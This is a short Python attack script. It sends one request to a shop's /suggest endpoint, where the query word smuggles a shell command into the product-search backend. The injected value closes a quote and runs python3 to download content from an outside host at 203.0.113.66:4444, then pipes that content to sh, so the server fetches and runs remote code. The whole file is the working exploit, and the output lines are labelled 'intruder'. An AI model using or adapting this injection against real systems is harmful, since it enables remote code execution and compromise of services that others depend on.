"""One request to the shop's front end, which hands it on to product-search: the word ends the quote and fetches a script."""

import http.client
import urllib.parse

FETCH = 'import urllib.request as u;print(u.urlopen("http://203.0.113.66:4444/").read().decode())'
WORD = "x' words.txt; python3 -c '" + FETCH + "' | sh; : '"

web = http.client.HTTPConnection("10.77.0.10", 8080, timeout=30, source_address=("203.0.113.66", 0))
web.request("GET", "/suggest?" + urllib.parse.urlencode({"q": WORD}))
answer = web.getresponse()
for line in answer.read().decode().splitlines():
    print("intruder: read", line)
